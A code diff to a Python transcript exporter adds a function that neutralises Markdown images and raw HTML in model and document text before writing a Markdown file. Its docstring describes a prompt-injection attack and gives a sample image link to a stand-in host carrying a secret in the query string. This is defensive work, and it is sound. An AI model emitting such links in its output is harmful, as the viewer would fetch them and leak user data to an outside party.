@@ -3,10 +3,14 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 from typing import Any
 
 from ..core.errors import SageError
+
+_CODE = re.compile(r"(```.*?(?:```|\Z)|`[^`\n]*`)", re.S)
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")
 
 
 def export(transcript: list[dict[str, Any]], path: str | Path) -> Path:
@@ -27,11 +31,20 @@ def export(transcript: list[dict[str, Any]], path: str | Path) -> Path:
     return target
 
 
+def _inert(text: str) -> str:
+    """Model or document text for a Markdown file: an image becomes a link (``\\![``) and a raw HTML tag shows
+    as text, outside code. A Markdown viewer draws both the moment the file opens, and a prompt-injected
+    ``![](https://x/?q=SECRET)`` would be fetched, carrying notebook data out."""
+    parts = _CODE.split(text)
+    return "".join(part if i % 2 else _TAG.sub("&lt;", part.replace("![", "\\![")) for i, part in enumerate(parts))
+
+
 def _markdown_turn(turn: dict[str, Any]) -> str:
-    lines = [f"## You\n\n{turn['prompt'].strip()}\n", f"## {turn['model']}\n\n{turn['answer'].strip()}\n"]
+    lines = [f"## You\n\n{_inert(turn['prompt'].strip())}\n",
+             f"## {_inert(turn['model'])}\n\n{_inert(turn['answer'].strip())}\n"]
     if turn.get("cancelled"):
         lines.append("_(stopped by the user)_\n")
-    lines.extend(f"{c['n']}. {c['source']}" + (f" ({c['location']})" if c["location"] else "") + "\n"
+    lines.extend(_inert(f"{c['n']}. {c['source']}" + (f" ({c['location']})" if c["location"] else "")) + "\n"
                  for c in turn.get("citations", []))
     figures = [f"{turn.get('prompt_tokens')} tokens in, {turn.get('completion_tokens')} out",
                f"first token {turn['ttft_s'] * 1000:.0f} ms" if turn.get("ttft_s") is not None else "",
